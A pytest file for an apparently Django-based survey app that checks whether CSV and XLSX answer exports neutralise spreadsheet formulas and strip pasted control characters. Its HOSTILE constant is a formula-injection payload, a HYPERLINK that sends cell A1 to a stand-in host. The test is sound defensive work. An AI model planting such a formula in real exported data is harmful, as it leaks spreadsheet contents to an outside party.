"""A respondent's words reach the coordinator's spreadsheets as text, whatever they typed or pasted."""

import csv
import io

import openpyxl
import pytest

from assemblies.coordinators import ensure_coordinator_group
from surveys.models import SurveyPage
from tests.factories import UserFactory
from tests.surveys.conftest import Q, keyed, make_survey, question

HOSTILE = '=HYPERLINK("http://ornek.test/?d="&A1,"Tıkla")'


@pytest.mark.django_db
def test_the_answer_exports_keep_formulas_as_text_and_open_after_a_pasted_control_character(client, assembly):
    survey = make_survey(
        assembly,
        [question(Q.SHORT_TEXT, "Adınız"), question(Q.LONG_TEXT, "Öneriniz")],
        audience=SurveyPage.Audience.SIGNED_IN,
    )
    fields = keyed(survey)
    client.force_login(UserFactory())
    answered = client.post(
        survey.url,
        {
            "step": 1,
            "action": "next",
            f"q-{fields['Adınız'].key}": HOSTILE,
            f"q-{fields['Öneriniz'].key}": "Parka\x0b bank konsun.",
        },
    )
    assert answered.status_code == 302
    coordinator = UserFactory()
    coordinator.groups.add(ensure_coordinator_group(assembly))
    client.force_login(coordinator)

    response = client.get(f"/admin/surveys/{survey.pk}/export/csv/")
    table = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert "'" + HOSTILE in table[1]

    response = client.get(f"/admin/surveys/{survey.pk}/export/xlsx/")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = {cell.value: cell for cell in sheet[2]}
    assert cells[HOSTILE].data_type == "s"
    assert any(isinstance(text, str) and text.startswith("Parka") and "\x0b" not in text for text in cells)
